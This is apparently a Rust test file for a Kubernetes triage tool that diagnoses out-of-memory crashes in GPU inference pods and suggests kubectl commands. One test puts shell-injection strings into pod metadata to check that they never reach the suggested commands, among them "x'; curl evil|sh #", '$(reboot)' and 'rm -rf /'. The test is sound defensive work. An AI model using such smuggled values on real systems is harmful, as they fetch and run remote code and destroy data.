//! What is advised: commands that are safe to paste and fit the pod, numbers within their bounds, order as clocks show.

use serde_json::{Value, json};

use crate::harness::{class, dir, run, stdout, triage_files};

/// A pod whose only container died; `change` makes the case of it.
fn pod(exit: i64, reason: &str, args: &[&str], change: impl Fn(&mut Value)) -> String {
    let mut pod = json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "llm-0", "namespace": "serving", "uid": "16488798-0c28-4887-9954-4ab401f4e9f0"},
        "spec": {"nodeName": "gpu-1", "containers": [{
            "name": "server", "image": "vllm/vllm-openai:v0.11.2", "args": args,
            "resources": {"limits": {"memory": "64Gi"}, "requests": {"memory": "64Gi"}}
        }]},
        "status": {"phase": "Running", "containerStatuses": [{
            "name": "server", "restartCount": 1,
            "lastState": {"terminated": {"exitCode": exit, "reason": reason, "startedAt": "2026-06-18T08:00:00Z", "finishedAt": "2026-06-18T09:10:01Z"}}
        }]}
    });
    change(&mut pod);
    pod.to_string()
}

/// Runs out of VRAM while it serves.
const SERVING: &str = "(EngineCore_DP0 pid=201) INFO 06-18 09:09:50 [loggers.py:257] Engine 000: Avg prompt throughput: 311.9 tokens/s, Avg generation throughput: 640.2 tokens/s, Running: 5 reqs, Waiting: 0 reqs, GPU KV cache usage: 9.8%, Prefix cache hit rate: 3.1%\n\
(EngineCore_DP0 pid=201) ERROR 06-18 09:10:00 [core.py:700] torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 616.00 MiB. GPU 0 has a total capacity of 79.11 GiB of which 501.19 MiB is free. Including non-PyTorch memory, this process has 78.61 GiB memory in use. Of the allocated memory 76.10 GiB is allocated by PyTorch, and 15.10 MiB is reserved by PyTorch but unallocated.\n";

fn strings(v: &Value, key: &str) -> Vec<String> {
    let of = |a: &Value| -> Vec<String> {
        match &a[key] {
            Value::Array(all) => all.iter().map(|c| c.as_str().unwrap().to_owned()).collect(),
            Value::String(one) => vec![one.clone()],
            _ => Vec::new(),
        }
    };
    v.as_array().unwrap().iter().flat_map(of).collect()
}

/// All commands of a report.
fn commands(v: &Value) -> Vec<String> {
    let mut out = strings(&v["actions"], "commands");
    out.extend(strings(&v["actions"], "patch"));
    out.extend(strings(&v["missing"], "command"));
    out
}

#[test]
fn no_name_of_the_evidence_is_run_by_a_shell() {
    for exit in [137, 1, 139] {
        let hostile = pod(exit, if exit == 137 { "OOMKilled" } else { "Error" }, &[], |p| {
            p["metadata"]["name"] = json!("$(reboot)");
            p["metadata"]["namespace"] = json!("x'; curl evil|sh #");
            p["metadata"]["ownerReferences"] =
                json!([{"kind": "StatefulSet", "name": "`reboot`", "controller": true}]);
            p["spec"]["nodeName"] = json!("$(reboot)`id`; rm -rf /");
            p["spec"]["containers"][0]["name"] = json!("-c; reboot");
            p["status"]["containerStatuses"][0]["name"] = json!("-c; reboot");
        });
        for log in ["", SERVING, "CUDA error: uncorrectable ECC error encountered\n"] {
            let v = triage_files(&[("pod.json", &hostile), ("previous.log", log)]);
            let all = commands(&v);
            assert!(!all.is_empty());
            for c in all {
                for bad in ["reboot)", "`", "evil", "rm -rf", "; reboot"] {
                    assert!(!c.contains(bad), "{} {c}", class(&v));
                }
            }
        }
    }
}

#[test]
fn a_restart_is_told_only_for_kinds_that_have_one_and_after_the_log_is_saved() {
    let of = |owner: Value| {
        let p = pod(1, "Error", &[], |p| {
            if !owner.is_null() {
                p["metadata"]["ownerReferences"] = json!([owner]);
            }
        });
        let v = triage_files(&[("pod.json", &p), ("previous.log", SERVING)]);
        assert_eq!(class(&v), "cuda_oom_runtime");
        let save = v["actions"][0].to_string();
        assert!(save.contains("--previous > previous.log"), "{save}");
        let stop: Vec<String> = v["actions"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|a| a["stage"] == "stop_the_bleeding")
            .map(Value::to_string)
            .collect();
        stop.join("\n")
    };
    let set = of(json!({"kind": "StatefulSet", "name": "llm", "controller": true}));
    assert!(set.contains("kubectl rollout restart statefulset/llm -n serving"), "{set}");
    for kind in ["Job", "LeaderWorkerSet", "InferenceService"] {
        let other = of(json!({"kind": kind, "name": "llm", "controller": true}));
        assert!(!other.contains("restart llm") && !other.contains("/llm"), "{other}");
        assert!(other.contains(&format!("does not support {kind}")), "{other}");
    }
    let bare = of(Value::Null);
    assert!(!bare.contains("deployment/") && bare.contains("no controller"), "{bare}");
}

#[test]
fn a_share_of_the_card_is_only_advised_where_engines_accept_it() {
    let titles = |value: &str| {
        let pod = pod(1, "Error", &[&format!("--gpu-memory-utilization={value}")], |_| {});
        let v = triage_files(&[("pod.json", &pod), ("previous.log", SERVING)]);
        assert_eq!(class(&v), "cuda_oom_runtime", "{value}");
        strings(&v["actions"], "title").join("\n")
    };
    // 0.95 - (616.00 - 501.19 + 616.00) MiB / 79.11 GiB = 0.9409
    assert!(titles("0.95").contains("Set --gpu-memory-utilization 0.94 (from 0.95)"));
    for refused in ["90", "-1", "0", "${UTIL}", "nan"] {
        assert!(!titles(refused).contains("Set --gpu-memory-utilization"), "{refused}");
    }
    assert!(titles("0.05").contains("--gpu-memory-utilization cannot free"));
}

#[test]
fn an_event_of_the_pod_that_had_the_name_before_is_not_of_this_one() {
    let event = |uid: &str| {
        json!({"kind": "List", "apiVersion": "v1", "items": [{
            "kind": "Event", "reason": "Killing", "message": "Container server failed liveness probe, will be restarted",
            "involvedObject": {"kind": "Pod", "name": "llm-0", "uid": uid}, "lastTimestamp": "2026-06-18T09:10:00Z"
        }]})
        .to_string()
    };
    let pod = pod(137, "Error", &[], |_| {});
    let own =
        triage_files(&[("pod.json", &pod), ("events.json", &event("16488798-0c28-4887-9954-4ab401f4e9f0"))]);
    assert_eq!(class(&own), "not_memory");
    let other =
        triage_files(&[("pod.json", &pod), ("events.json", &event("00000000-0c28-4887-9954-4ab401f4e9f0"))]);
    assert_eq!(class(&other), "unknown");
}

#[test]
fn what_is_measured_is_a_copy_and_nothing_is_run_in_an_init_container() {
    let v = triage_files(&[("pod.json", &pod(137, "OOMKilled", &[], |_| ()))]);
    let all = commands(&v);
    let copy = |c: &&String| c.contains("llm-0-measure");
    assert!(
        all.iter().filter(copy).any(|c| c.contains("kubectl exec") && c.contains("memory.peak")),
        "{all:?}"
    );
    assert!(all.iter().any(|c| c.contains("kubectl create -f -") && c.contains(".resources.limits.memory")));
    let init = |p: &mut Value| {
        let container = p["spec"]["containers"][0].clone();
        p["spec"]["initContainers"] = json!([container]);
        p["status"]["initContainerStatuses"] = p["status"]["containerStatuses"].clone();
        p["spec"]["containers"][0]["name"] = json!("later");
        p["status"]["containerStatuses"] = json!([]);
    };
    let v = triage_files(&[("pod.json", &pod(137, "OOMKilled", &[], init))]);
    assert_eq!(class(&v), "host_oom_killed");
    let all = commands(&v);
    assert!(!all.iter().any(|c| c.contains("kubectl exec")), "{all:?}");
    assert!(all.iter().any(|c| c.contains("initContainerStatuses")), "{all:?}");
}

#[test]
fn a_request_that_covers_the_use_is_not_set_again() {
    for (request, covered) in [("64Gi", true), ("1Gi", false)] {
        let change =
            |p: &mut Value| p["spec"]["containers"][0]["resources"]["requests"]["memory"] = json!(request);
        let kernel = "[Thu Jun 18 09:10:00 2026] python3 invoked oom-killer: gfp_mask=0x140cca, order=0\n\
            [Thu Jun 18 09:10:00 2026] oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=/kubepods,task=python3,pid=9,uid=0\n\
            [Thu Jun 18 09:10:00 2026] Out of memory: Killed process 9 (python3) total-vm:1kB, anon-rss:20971520kB, file-rss:0kB, shmem-rss:0kB\n";
        let v = triage_files(&[("pod.json", &pod(137, "OOMKilled", &[], change)), ("kernel.log", kernel)]);
        assert_eq!(class(&v), "host_node_oom");
        let titles = strings(&v["actions"], "title");
        assert_eq!(titles.iter().any(|t| t.contains("already covers")), covered, "{titles:?}");
        assert_eq!(titles.iter().any(|t| t.starts_with("Set the memory request")), !covered, "{titles:?}");
    }
}

#[test]
fn a_name_longer_than_any_object_has_is_clipped() {
    let long = "n".repeat(5000);
    let change = |p: &mut Value| {
        p["spec"]["containers"][0]["name"] = json!(long);
        p["status"]["containerStatuses"][0]["name"] = json!(long);
    };
    let d = dir(&[("pod.json", pod(137, "OOMKilled", &[], change).as_bytes())]);
    for format in ["text", "markdown"] {
        let o = run(&["triage", "-o", format, d.path().to_str().unwrap()]);
        let text = stdout(&o).replace(['\n', ' '], "");
        assert!(text.contains("n…") && !text.contains(&"n".repeat(254)), "{text}");
    }
}

/// A node's log tells of all its pods: numbers are those of the own record, wherever it stands.
#[test]
fn another_pods_kill_gives_no_number() {
    let record = |t: u32, uid: &str, kib: u64| {
        format!(
            "[{t}.000001] python3 invoked oom-killer: gfp_mask=0xcc0(GFP_KERNEL), order=0, oom_score_adj=0\n\
             [{t}.000002] memory: usage {kib}kB, limit {kib}kB, failcnt 30\n\
             [{t}.000003] oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset=/,mems_allowed=0,oom_memcg=/kubepods/burstable/pod{uid},task_memcg=/kubepods/burstable/pod{uid}/{id},task=python3,pid=7,uid=0\n\
             [{t}.000004] Memory cgroup out of memory: Killed process 7 (python3) total-vm:99kB, anon-rss:{kib}kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:88kB oom_score_adj:0\n",
            id = "c".repeat(64),
        )
    };
    let own = record(200, "16488798-0c28-4887-9954-4ab401f4e9f0", 64 << 20);
    let other = record(100, "22222222-0c28-4887-9954-4ab401f4e9f0", 48 << 10);
    for log in [format!("{other}{own}"), format!("{own}{other}")] {
        let pod = pod(137, "OOMKilled", &["serve", "m"], |_| {});
        let d = dir(&[("pod.json", pod.as_bytes()), ("kernel.log", log.as_bytes())]);
        let text = stdout(&run(&["triage", d.path().to_str().unwrap()]));
        assert!(text.contains("limit of 64.00 GiB") && text.contains("at least 64.00 GiB"), "{text}");
        assert!(!text.contains("48.00 MiB"), "{text}");
    }
}

/// The action that sets the share, of a pod that runs out of VRAM while it serves.
fn share(args: &[&str], change: impl Fn(&mut Value)) -> Value {
    let p = pod(1, "Error", args, change);
    let v = triage_files(&[("pod.json", &p), ("previous.log", SERVING)]);
    let actions = v["actions"].as_array().unwrap();
    let of = |a: &&Value| a["changes"][0]["names"][0] == "--gpu-memory-utilization";
    actions.iter().find(of).unwrap_or_else(|| panic!("{v}")).clone()
}

#[test]
fn a_computed_flag_has_a_patch_or_says_why_not() {
    let a = share(&["--model", "m", "--gpu-memory-utilization=0.95"], |_| {});
    let patch = a["patch"].as_str().unwrap();
    let value = a["changes"][0]["value"].as_str().unwrap();
    assert!(
        patch.contains(&format!("--gpu-memory-utilization={value}")) && patch.contains("--model"),
        "{patch}"
    );
    assert_eq!((&a["changes"][0]["was"], &a["changes"][0]["shown"]), (&json!("0.95"), &json!(true)));

    // A list that was masked would replace the true one.
    let masked = share(&["--api-key", "[redacted:api_key]", "--gpu-memory-utilization", "0.95"], |_| {});
    assert!(
        masked.get("patch").is_none() && masked["arithmetic"].to_string().contains("masked values"),
        "{masked}"
    );
    let unknown =
        share(&["serve"], |p| p["spec"]["containers"][0]["image"] = json!("registry.example/team/llm:1"));
    assert!(unknown["arithmetic"].to_string().contains("no patch: "), "{unknown}");

    // Who would revert it is named, with the setting to change there.
    let helm = share(&["--model", "m"], |p| {
        p["metadata"]["labels"] = json!({"app.kubernetes.io/managed-by": "Helm"});
    });
    let said = helm["arithmetic"].to_string();
    assert!(
        said.contains("Helm reverts it") && said.contains("chart's values: --gpu-memory-utilization 0."),
        "{said}"
    );
}
